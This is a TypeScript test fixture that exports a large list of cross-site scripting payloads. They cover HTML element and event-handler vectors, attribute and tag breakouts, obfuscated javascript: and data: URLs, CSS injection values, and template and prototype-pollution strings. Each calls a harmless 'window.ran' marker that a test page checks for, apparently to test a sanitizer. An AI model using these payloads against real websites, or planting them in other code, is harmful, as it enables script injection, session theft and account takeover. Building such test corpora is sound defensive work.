/** What each text runs where it is taken for more than a text; a page that looks for it defines `ran`. */
const run = 'window.ran?.()';

const elements = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script >${run}</script >`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script src="data:text/javascript,${run}"></script>`, `<script type=module>${run}</script>`,
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `<img/src=x/onerror=${run}>`, `<IMG SRC=x ONERROR=${run}>`, `<img src=x:x onerror\n=${run}>`, `<img srcset="x" onerror=${run}>`, `<image src=x onerror=${run}>`, `<picture><source srcset=x><img onerror=${run}></picture>`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributeName=x>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}></svg>#x"/></svg>`, `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`, `<math><a xlink:href="javascript:${run}">x</a></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<iframe src="javascript:${run.replace('window', 'parent')}"></iframe>`, `<iframe srcdoc="<script>${run.replace('window', 'parent')}</script>"></iframe>`, `<iframe onload=${run}></iframe>`, `<object data="javascript:${run}"></object>`, `<object data="data:text/html,<script>${run}</script>"></object>`, `<embed src="javascript:${run}">`, `<frameset onload=${run}>`,
  `<video><source onerror=${run}></video>`, `<video src=x onerror=${run}></video>`, `<audio src=x onerror=${run}></audio>`, `<video poster=javascript:${run}></video>`, `<track onerror=${run}>`,
  `<body onload=${run}>`, `<body onpageshow=${run}>`, `<input autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}></textarea>`, `<select autofocus onfocus=${run}></select>`, `<button autofocus onfocus=${run}>x</button>`, `<a autofocus tabindex=0 onfocus=${run}>x</a>`, `<details open ontoggle=${run}>x</details>`, `<dialog open onfocusin=${run} tabindex=0 autofocus>x</dialog>`,
  `<marquee onstart=${run}>x</marquee>`, `<style onload=${run}></style>`, `<style>@import "javascript:${run}"</style>`, `<link rel=stylesheet href="data:text/css," onload=${run}>`, `<link rel=import href="data:text/html,<script>${run}</script>">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<base href="javascript:${run}//">`,
  `<a href="javascript:${run}">x</a>`, `<form action="javascript:${run}"><button autofocus>x</button></form>`, `<button formaction="javascript:${run}">x</button>`, `<isindex action="javascript:${run}">`, `<div style="animation:x 1ms" onanimationstart=${run}><style>@keyframes x{}</style></div>`, `<div onpointerover=${run} style="position:fixed;inset:0">x</div>`, `<div onmouseover=${run}>x</div>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><img src=x onerror=${run}></template>`, `<template shadowrootmode=open><img src=x onerror=${run}></template>`, `<slot onslotchange=${run}><b>x</b></slot>`, `<xss contenteditable autofocus onfocus=${run}>x</xss>`, `<lastcall-bar onfocus=${run} tabindex=0 autofocus></lastcall-bar>`, `<!--><img src=x onerror=${run}>-->`, `<![CDATA[><img src=x onerror=${run}>]]>`, `<?xml version="1.0"?><img src=x onerror=${run}>`, `<p title="<img src=x onerror=${run}>">`, `<b onclick=${run}>x</b>`, `<img src=x onerror=eval(atob("${Buffer.from(run).toString('base64')}"))>`,
];

/** What leaves an attribute, an element or a script in which a text was put. */
const outOf = ['"', "'", '`', '">', "'>", '`>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</template>', '-->', ']]>', '\\"', '\\u0022>', '&quot;>', '&#34;>', '%22%3E', '\u0000">'];
const leaving = outOf.flatMap((exit) => [`${exit}<img src=x onerror=${run}>`, `${exit} autofocus tabindex=0 onfocus=${run} x=`, `${exit};${run};//`]);

const addresses = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `\tjavascript:${run}`, `\njavascript:${run}`, `\u0001javascript:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `java\rscript:${run}`, `javascript\t:${run}`, `javascript://%0a${run}`, `javascript://shop.example/%0a${run}`, `javascript:/*shop.example*/${run}`, `javascript&colon;${run}`, `&#106;avascript:${run}`, `java&Tab;script:${run}`, `%6aavascript:${run}`, `\\u006aavascript:${run}`, `view-source:javascript:${run}`, `feed:javascript:${run}`, `jar:javascript:${run}`,
  `vbscript:${run}`, `livescript:${run}`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`, `data:image/svg+xml,<svg onload=${run}>`, `DATA:text/html,<script>${run}</script>`, `blob:null/${run}`, `filesystem:http://x/${run}`, `file:///etc/passwd#${run}`, `#"onclick="${run}`, `#" autofocus onfocus="${run}`, `https://shop.example/" onfocus="${run}" autofocus="`, `https://shop.example/'><img src=x onerror=${run}>`, `http://javascript:${run}`, `//javascript:${run}`, `https:javascript:${run}`,
];

const colors = [
  `red;background:url(javascript:${run})`, `#fff;}</style><script>${run}</script>`, `url("javascript:${run}")`, `expression(${run})`, `#fff" onload="${run}`, `#fff'><img src=x onerror=${run}>`, `var(--x,url(javascript:${run}))`, `#000;behavior:url(data:text/html,${run})`, `#000;-moz-binding:url(data:text/xml,${run})`, `image(url(javascript:${run}))`, `#fff}*{background:url(javascript:${run})}`, `\\75rl(javascript:${run})`, `#fff/**/;x:expression(${run})`, `attr(style ${run})`, `paint(${run})`, `env(x,url(javascript:${run}))`, `@import"javascript:${run}";`, `#fff\n}</style><svg onload=${run}>`,
];

const templates = [`{{${run}}}`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`, `#{${run}}`, `{%${run}%}`, `[[${run}]]`, `__proto__[onerror]=${run}`, `');${run};('`, `\u2028${run}\u2029`, `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`, `&lt;img src=x onerror=${run}&gt;`, `\\x3cimg src=x onerror=${run}\\x3e`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`];

/** Texts that run a script wherever a text, an address or a colour is taken for more than one; each asks for `window.ran`. */
export const scriptInjections: readonly string[] = [...new Set([...elements, ...leaving, ...addresses, ...colors, ...templates])];
